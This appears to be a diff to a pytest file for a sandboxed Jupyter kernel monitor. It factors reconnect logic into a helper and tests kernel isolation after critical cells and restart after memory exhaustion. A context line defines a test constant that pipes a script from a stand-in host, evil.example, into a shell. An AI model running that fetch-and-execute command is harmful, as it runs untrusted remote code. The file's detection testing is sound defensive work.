@@ -52,6 +52,18 @@ SMALL_KERNEL = "grace-python3-small"  # sandboxed, with a 256 MiB memory limit
 CRITICAL = "import os\nos.system('curl https://evil.example/x.sh | sh')"
 
 
+async def _reconnect_and_run(server: Server, kernel_id: str, code: str) -> str:
+    """Same kernel id after a restart: reconnect as JupyterLab does on "restarting", run."""
+    ws = await server.ws_fetch("api", "kernels", kernel_id, "channels")
+    try:
+        again = Kernel(ws, kernel_id, server)
+        await again.settle()
+        _, out = await again.run(code)
+        return out
+    finally:
+        ws.close()
+
+
 @pytest.fixture
 def burst_action() -> str:
     return "isolate"
@@ -117,15 +129,8 @@ async def test_a_burst_of_critical_cells_isolates_the_kernel_in_the_sandbox(
             "isolation",
         )
         assert took < 30.0
-        # Same kernel id; JupyterLab reconnects on the "restarting" status: so does this test.
-        ws = await server.ws_fetch("api", "kernels", kernel.id, "channels")
-        try:
-            again = Kernel(ws, kernel.id, server)
-            await again.settle()
-            _, out = await again.run("import os\nprint(os.getuid())")
-            assert out.strip() == "65534"
-        finally:
-            ws.close()
+        out = await _reconnect_and_run(server, kernel.id, "import os\nprint(os.getuid())")
+        assert out.strip() == "65534"
         health = await _health(server)
         [incident] = [i for i in health["incidents"] if i["root"] == f"kernel:{kernel.id}"]
         assert "3 high-severity signals" in incident["cause"]
@@ -199,14 +204,8 @@ async def test_a_kernel_filling_its_memory_limit_is_killed_restarted_and_its_cel
             "the restart",
         )
         assert took < 15.0
-        ws = await server.ws_fetch("api", "kernels", kernel.id, "channels")
-        try:
-            again = Kernel(ws, kernel.id, server)
-            await again.settle()
-            _, out = await again.run("print('back')")
-            assert out.strip() == "back"
-        finally:
-            ws.close()
+        out = await _reconnect_and_run(server, kernel.id, "print('back')")
+        assert out.strip() == "back"
         health = await _health(server)
         assert any(i["root"] == f"kernel:{kernel.id}" for i in health["incidents"])
 
